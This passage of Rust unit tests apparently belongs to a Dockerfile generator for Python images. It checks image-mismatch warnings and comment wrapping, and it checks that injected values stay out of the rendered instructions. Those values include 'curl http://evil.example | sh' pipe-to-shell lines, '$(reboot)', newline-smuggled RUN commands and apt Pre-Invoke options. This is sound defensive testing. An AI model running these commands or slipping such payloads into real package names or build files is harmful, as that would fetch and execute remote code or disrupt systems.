            "python:3.12-trixie",
            PackageManager::Apt,
            &["gcc"],
        ));
        let dockerfile = render(&plan);
        assert!(
            comment_text(&dockerfile).contains(
                "WARNING: the builder (python:3.12-trixie, glibc) and the final image \
                 (python:3.12-alpine3.24, musl) use different C libraries: wheels built against \
                 one do not run on the other."
            ),
            "{dockerfile}"
        );
        let stages = stages(&dockerfile);
        // Each stage uses its own package manager.
        position(
            &stages[0],
            "RUN apt-get update && apt-get install -y --no-install-recommends gcc \
             && rm -rf /var/lib/apt/lists/*",
        );
        position(&stages[1], "RUN apk add --no-cache libgomp");
    }

    #[test]
    fn builder_with_another_python_or_release_is_warned_about() {
        let mut plan = slim();
        plan.build = Some(multi_stage("python:3.13-trixie", PackageManager::Apt, &[]));
        let dockerfile = render(&plan);
        assert!(comment_text(&dockerfile).contains(
            "WARNING: the builder has Python 3.13 and the final image Python 3.12: wheels \
                 built for one do not install on the other."
        ));

        plan.build = Some(multi_stage("python:3.12-trixie", PackageManager::Apt, &[]));
        plan.final_image = "python:3.12-slim-bookworm".to_string();
        let dockerfile = render(&plan);
        assert!(
            comment_text(&dockerfile).contains(
                "WARNING: the builder is based on trixie and the final image on bookworm"
            ),
            "{dockerfile}"
        );

        // The untagged default variant says nothing about its release: no warning.
        plan.build = Some(multi_stage("python:3.12", PackageManager::Apt, &[]));
        assert!(!render(&plan).contains("WARNING"));
    }

    #[test]
    fn injected_package_names_are_dropped_and_shown_escaped() {
        let mut plan = slim();
        plan.runtime_packages = strings(&[
            "libgomp1",
            "libfoo; curl http://evil.example | sh",
            "$(reboot)",
            "libbar\nRUN curl http://evil.example | sh",
            "-oAPT::Update::Pre-Invoke::=reboot",
            // Only the first-character rule stops this one: it would be read as an option.
            "--allow-unauthenticated",
            "LibUpper",
            "libc6:amd64",
            "`reboot`",
            "",
        ]);
        plan.build = Some(BuildPlan::InPlace {
            build_packages: strings(&["gcc", "gcc && reboot"]),
        });
        let dockerfile = render(&plan);
        let instructions = instructions(&dockerfile);
        for instruction in &instructions {
            for bad in [
                "curl",
                "reboot",
                "evil",
                "LibUpper",
                "amd64",
                "Pre-Invoke",
                "`",
                "$(",
            ] {
                assert!(!instruction.contains(bad), "{bad} in {instruction}");
            }
        }
        position(
            &instructions,
            "RUN apt-get update && apt-get install -y --no-install-recommends libgomp1 \
             && rm -rf /var/lib/apt/lists/*",
        );
        // Every line that is not a comment is one Docker reads as part of our instructions.
        for line in dockerfile.lines() {
            assert!(!line.starts_with("RUN curl"), "{line}");
        }
        let comments = comment_text(&dockerfile);
        assert!(
            comments.contains(r#""libbar\nRUN curl http://evil.example | sh""#),
            "{comments}"
        );
        assert!(comments.contains(r#""gcc && reboot""#), "{comments}");
        assert!(comments.contains(r#""libc6:amd64""#), "{comments}");
        assert_eq!(comments.matches("WARNING: left out the ").count(), 10);
    }

    #[test]
    fn apk_so_names_are_allowed_but_not_other_punctuation() {
        let mut plan = alpine();
        plan.runtime_packages = strings(&["so:libgomp.so.1", "so:x;reboot", "so:libz.so.1 x"]);
        let dockerfile = render(&plan);
        position(
            &instructions(&dockerfile),
            "RUN apk add --no-cache so:libgomp.so.1",
        );
        assert_eq!(dockerfile.matches("# WARNING: left out").count(), 2);
    }

    #[test]
    fn injected_image_requirements_and_comments_stay_in_comments() {
        let mut plan = slim();
        plan.final_image = "python:3.12\nRUN curl http://evil.example | sh".to_string();
        plan.requirements = "req.txt; curl http://evil.example | sh".to_string();
        plan.comments = strings(&[
            "escape=`",
            "first line\nRUN curl http://evil.example | sh\r\nCMD evil\u{2028}ENTRYPOINT evil",
            "trailing backslash \\",
        ]);
        plan.built_from_source = strings(&["pkg 1.0\nRUN reboot"]);
        let dockerfile = render(&plan);
        let instructions = instructions(&dockerfile);
        assert_eq!(instructions[0], format!("FROM {INVALID_IMAGE}"));
        for instruction in &instructions {
            for bad in ["curl", "evil", "reboot"] {
                assert!(!instruction.contains(bad), "{bad} in {instruction}");
            }
        }
        position(&instructions, "COPY requirements.txt .");
        position(
            &instructions,
            "RUN pip install --no-cache-dir -r requirements.txt",
        );
        // The header comes first, so `# escape=...` further down is a comment, not a directive.
        assert!(
            dockerfile
                .lines()
                .next()
                .unwrap()
                .starts_with("# Generated by wheelcheck")
        );
        let comments = comments(&dockerfile);
        assert!(comments.contains(&"# RUN curl http://evil.example | sh"));
        assert!(comments.contains(&"# ENTRYPOINT evil"));
        assert!(comments.contains(&"# RUN reboot"));
        for line in dockerfile.lines() {
            assert!(!line.contains(['\r', '\u{2028}']));
        }
    }

    #[test]
    fn requirements_path_keeps_its_directory() {
        let mut plan = slim();
        plan.requirements = "./requirements/prod.txt".to_string();
        let nested = instructions(&render(&plan));
        position(&nested, "COPY requirements/prod.txt requirements/");
        position(
            &nested,
            "RUN pip install --no-cache-dir -r requirements/prod.txt",
        );
        for bad in [
            "/etc/passwd",
            "../reqs.txt",
            "-r",
            "reqs dir/r.txt",
            "a//b.txt",
            "",
        ] {
            plan.requirements = bad.to_string();
            let dockerfile = render(&plan);
            position(&instructions(&dockerfile), "COPY requirements.txt .");
            assert!(
                dockerfile.contains("# WARNING: the requirements path"),
                "{bad}"
            );
        }
    }

    #[test]
    fn latest_and_untagged_images_are_warned_about() {
        for image in ["python:latest", "python", "docker.io/library/python:latest"] {
            let mut plan = slim();
            plan.final_image = image.to_string();
            let dockerfile = render(&plan);
            assert!(
                comment_text(&dockerfile).contains("pin a version tag"),
                "{image}"
            );
        }
        for image in [
            "python:3.12-slim-trixie",
            "registry.example:5000/python:3.12-slim",
            "python@sha256:0123456789abcdef",
        ] {
            let mut plan = slim();
            plan.final_image = image.to_string();
            assert!(!render(&plan).contains("WARNING"), "{image}");
        }
    }

    #[test]
    fn no_upgrade_no_cache_no_latest_no_leftover_wheels() {
        for plan in all_plans() {
            let dockerfile = render(&plan);
            let instructions = instructions(&dockerfile);
            for instruction in &instructions {
                assert!(!instruction.contains("upgrade"), "{instruction}");
                assert!(!instruction.contains("latest"), "{instruction}");
                assert!(!instruction.contains("type=cache"), "{instruction}");
                assert!(!instruction.contains("COPY --from"), "{instruction}");
                if instruction.contains("pip install") || instruction.contains("pip wheel") {
                    assert!(instruction.contains("--no-cache-dir"), "{instruction}");
                }
                if instruction.contains("apt-get install") {
                    assert!(
                        instruction.starts_with("RUN apt-get update && ")
                            && instruction.ends_with(" && rm -rf /var/lib/apt/lists/*"),
                        "{instruction}"
                    );
                }
                if instruction.contains("apk add") {
                    assert!(instruction.contains("apk add --no-cache "), "{instruction}");
                }
            }
            // In every stage: requirements copied before pip runs, code copied after.
            for stage in stages(&dockerfile) {
                let pip = stage.iter().position(|i| i.contains("pip ")).unwrap();
                let requirements = position(&stage, "COPY requirements.txt .");
                assert!(requirements < pip, "{stage:#?}");
                if let Some(code) = stage.iter().position(|i| i == "COPY . .") {
                    assert!(pip < code && code == stage.len() - 1, "{stage:#?}");
                }
            }
            let final_stage = stages(&dockerfile).pop().unwrap();
            assert_eq!(final_stage[1], ENV);
            assert_eq!(final_stage[2], "WORKDIR /app");
            assert_eq!(final_stage.last().unwrap(), "COPY . .");
            assert_eq!(render(&plan), dockerfile, "deterministic");
        }
    }

    #[test]
    fn comment_lines_are_split_cleaned_and_cut() {
        assert_eq!(comment_lines(""), ["#"]);
        assert_eq!(comment_lines("a\n\nb\r\n"), ["# a", "# b"]);
        assert_eq!(
            comment_lines("x\u{7}y\u{202e}z\tw"),
            ["# x\u{fffd}y\u{fffd}z w"]
        );
        let long = "x".repeat(1000);
        let cut = &comment_lines(&long)[0];
        assert_eq!(cut.chars().count(), 2 + COMMENT_MAX_CHARS + 1);
        assert!(cut.ends_with('…'));
    }

    #[test]
    fn comment_lines_wrap_at_word_boundaries() {
        let text = format!("{} {} {}", "a".repeat(60), "b".repeat(40), "c".repeat(120));
        assert_eq!(
            comment_lines(&text),
            [
                format!("# {}", "a".repeat(60)),
                format!("# {}", "b".repeat(40)),
                format!("# {}", "c".repeat(120)),
            ]
        );
        let item = format!("  pkg {}", "word ".repeat(30));
        for line in comment_lines(&item) {
            assert!(
                line.starts_with("#   ") && line.chars().count() <= COMMENT_WIDTH,
                "{line}"
            );
        }
        let dockerfile = render(&DockerPlan {
            comments: vec!["word ".repeat(50)],
            ..tests_plan()
        });
        assert!(
            dockerfile
                .lines()
                .all(|l| !l.starts_with('#') || l.chars().count() <= COMMENT_WIDTH)
        );
    }
}
